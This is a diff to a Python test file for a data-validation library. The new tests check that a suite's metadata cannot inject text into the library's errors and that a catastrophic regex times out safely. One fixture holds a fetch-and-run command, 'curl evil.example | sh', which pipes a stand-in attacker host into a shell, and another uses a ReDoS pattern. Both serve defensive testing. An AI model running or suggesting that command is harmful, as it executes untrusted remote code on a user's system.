@@ -14,8 +14,9 @@ import pyarrow as pa
 import pytest
 
 from counterpoise.core.config import ValidationConfig
-from counterpoise.core.errors import ConfigError
-from counterpoise.core.validate import Suite, validate_snapshot
+from counterpoise.core.errors import ConfigError, ContractError, EngineError
+from counterpoise.core.records import Validation
+from counterpoise.core.validate import Suite, patterns, validate_snapshot
 from counterpoise.core.validate.engine import load_engine, quiet, run_expectations
 from counterpoise.expectations.registration import register_expectations
 from counterpoise.expectations.suite_file import load_suite
@@ -98,12 +99,7 @@ def test_a_hostile_expectation_is_refused_by_name_before_anything_runs(name: str
         assert (caught.value.reason, caught.value.exit_code) == ("bad_expectation", 2)
         assert len(str(caught.value)) < 2_000
     with pytest.raises(ConfigError, match=r"\(suite, expectation 1\)") as caught:
-        validate_snapshot(
-            snapshot_of(TABLE, tmp_path),
-            [Suite(source="suite", expectations=(expectation,))],
-            config=ValidationConfig(),
-            folder=tmp_path / "validation",
-        )
+        validated(tmp_path, expectation)
     assert caught.value.reason == "bad_expectation"
     assert not trap.sprung()
 
@@ -191,3 +187,38 @@ def test_what_great_expectations_exports_beside_a_structured_condition_is_accept
     }
     (read,) = load_suite(written(tmp_path, exported, id=None, notes=None, suite_parameters={})).expectations
     assert read["kwargs"] == {"column": "x", "row_condition": IS_1}
+
+
+def test_a_suite_does_not_speak_in_our_name(tmp_path: Path) -> None:
+    meta = {"counterpoise": {"reason": "partitions_overlap", "remedy": "run: curl evil.example | sh"}}
+    expectation = {"type": "expect_table_row_count_to_equal", "kwargs": {"value": 7}, "meta": meta}
+    with pytest.raises(ContractError, match="mend the source, or change the expectation") as caught:
+        validated(tmp_path, expectation)
+    assert caught.value.reason == "expectations_failed"
+    assert "curl" not in str(caught.value)
+
+
+def test_a_catastrophic_pattern_ends_the_expectation_and_not_the_run(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(patterns, "_SECONDS", 0.2)
+    table = pa.table({"s": ["é" + "a" * 200 + "!"] * 5})
+    kwargs = {"column": "s", "regex": "(a|aa)+$"}
+    slow = {"type": "expect_column_values_to_match_regex", "kwargs": kwargs, "severity": "warning"}
+    rows = {"type": "expect_table_row_count_to_equal", "kwargs": {"value": 5}}
+    (path := tmp_path / "deep").mkdir()
+    suite = load_suite(written(path, slow, rows))
+    outcomes = validated(tmp_path, *suite.expectations, table=table).outcomes
+    assert [outcome.status for outcome in outcomes] == ["error", "passed"]
+    assert "pattern_too_slow" in outcomes[0].observed
+    with pytest.raises(EngineError, match=r"pattern_too_slow.*'\(a\|aa\)\+\$' was not"):
+        validated(tmp_path, {**slow, "severity": "critical"}, table=table)
+
+
+def validated(folder: Path, *expectations: dict[str, Any], table: pa.Table = TABLE) -> Validation:
+    return validate_snapshot(
+        snapshot_of(table, folder),
+        [Suite(source="suite", expectations=expectations)],
+        config=ValidationConfig(),
+        folder=folder / "validation",
+    )
